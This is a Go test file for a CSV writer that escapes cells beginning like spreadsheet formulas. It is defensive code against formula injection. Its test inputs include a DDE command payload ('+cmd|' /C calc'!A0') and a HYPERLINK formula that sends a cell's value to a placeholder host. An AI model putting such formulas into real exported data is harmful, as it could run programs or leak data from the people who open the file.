package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "a cat": "a cat", "2": "2", "-0.5": "-0.5", "+1e-05": "+1e-05", "-inf": "-inf", "1-2": "1-2", "−0.5": "−0.5", "über": "über", "ｆ": "ｆ",
		"=1+1": "'=1+1", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3", "-": "'-", "@SUM(1)": "'@SUM(1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"\n=1": "'\n=1", "＝1": "'＝1", "-0.5 a": "'-0.5 a", "'=1": "'=1", " =1": " =1",
	} {
		if got := Cell(text); got != want {
			t.Errorf("%q stands there as %q, want %q", text, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	var out bytes.Buffer
	w := NewWriter(&out)
	rows := [][]string{{"=head", "n"}, {`=HYPERLINK("http://h?"&A1,"x")`, "-0.5"}, {"a, \"b\"", "+2"}}
	if err := w.WriteAll(rows); err != nil {
		t.Fatal(err)
	}
	want := "'=head,n\n\"'=HYPERLINK(\"\"http://h?\"\"&A1,\"\"x\"\")\",-0.5\n\"a, \"\"b\"\"\",+2\n"
	if out.String() != want {
		t.Errorf("got\n%swant\n%s", &out, want)
	}
	if rows[0][0] != "=head" {
		t.Error("the row that was given has changed")
	}
}

func FuzzCell(f *testing.F) {
	for _, seed := range []string{"=1", "-0.5", "a", "＠x", "\xef"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, text string) {
		var out bytes.Buffer
		if err := NewWriter(&out).WriteAll([][]string{{"x", text}}); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&out)
		rows, err := r.ReadAll()
		if err != nil || len(rows) != 1 || len(rows[0]) != 2 {
			t.Fatalf("%q is read as %q, %v", text, rows, err)
		}
		got := rows[0][1]
		bare := func(text string) string { // the reader takes \r\n for \n
			return strings.ReplaceAll(strings.TrimPrefix(text, "'"), "\r", "")
		}
		if bare(got) != bare(text) {
			t.Errorf("%q is read as %q", text, got)
		}
		if strings.ContainsAny(got[:min(1, len(got))], "=+-@\t") && !isNumber(got) {
			t.Errorf("%q begins like a formula: %q", text, got)
		}
	})
}
